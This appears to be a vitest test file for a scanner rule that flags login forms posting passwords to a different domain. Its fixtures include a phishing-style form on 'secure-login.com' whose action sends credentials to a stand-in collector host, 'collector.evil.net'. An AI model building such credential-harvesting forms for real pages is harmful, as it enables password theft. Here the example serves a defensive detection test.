import { describe, expect, it } from 'vitest';
import { codesOf, factsFor, findingsOf, pageFacts } from '../testing/signal-facts';
import { contentPasswordFormCrossDomain } from './content-password-form-cross-domain';

const form = (action: string, field = '<input type="password" name="p">') =>
  `<form method="post" action="${action}"><input name="u">${field}</form>`;

describe('content-password-form-cross-domain', () => {
  it.each([
    [
      'to another site',
      'https://secure-login.com/',
      form('https://collector.evil.net/post.php'),
      ['password-form-cross-domain'],
    ],
    ['to the same site', 'https://shop.com/login', form('/session'), []],
    ['to a subdomain of the same site', 'https://shop.com/login', form('https://auth.shop.com/session'), []],
    [
      'between one brand’s own domains',
      'https://www.office.com/',
      form('https://login.microsoftonline.com/x'),
      [],
    ],
    [
      'without a password field',
      'https://news.com/',
      form('https://newsletter.example.net/', '<input type="email">'),
      [],
    ],
  ])('a form posting %s gives %j', (_label, url, html, codes) => {
    expect(codesOf(contentPasswordFormCrossDomain, factsFor(url, { page: pageFacts(url, html) }))).toEqual(
      codes,
    );
  });

  it('names where the password goes', () => {
    const url = 'https://secure-login.com/';
    const facts = factsFor(url, { page: pageFacts(url, form('https://collector.evil.net/post.php')) });
    const [finding] = findingsOf(contentPasswordFormCrossDomain, facts) ?? [];
    expect(finding?.severity).toBe('critical');
    expect(finding?.evidence).toContain(
      'submits it to collector.evil.net (https://collector.evil.net/post.php)',
    );
  });
});
